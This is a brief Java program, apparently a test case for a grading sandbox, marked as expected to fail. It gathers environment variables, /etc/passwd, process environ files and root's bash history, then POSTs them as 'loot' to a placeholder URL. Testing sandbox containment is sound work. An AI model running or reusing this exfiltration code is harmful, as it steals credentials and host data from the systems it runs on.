// expect: not_correct -- reads host files, its environment and its parent's, and sends them in a wrong request's header
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.*;
import java.util.*;

public class Main {
    public static void main(String[] args) throws Exception {
        HttpClient client = HttpClient.newHttpClient();
        StringBuilder loot = new StringBuilder(System.getenv().toString());
        for (String p : new String[] {"/etc/passwd", "/proc/self/environ", "/proc/1/environ", "/proc/" + ProcessHandle.current().parent().map(h -> h.pid()).orElse(1L) + "/environ", "/root/.bash_history"}) {
            try { loot.append(new String(Files.readAllBytes(Path.of(p)))); } catch (Exception e) { loot.append(e); }
        }
        try (var s = Files.list(Path.of("/"))) { s.forEach(x -> loot.append(x)); } catch (Exception e) { loot.append(e); }
        System.out.println(loot);
        client.send(HttpRequest.newBuilder(URI.create("__EXPECTED_URL__/loot")).POST(HttpRequest.BodyPublishers.ofString(loot.toString())).build(), HttpResponse.BodyHandlers.ofString());
        client.send(HttpRequest.newBuilder(URI.create("__EXPECTED_URL__/extra")).build(), HttpResponse.BodyHandlers.ofString());
    }
}
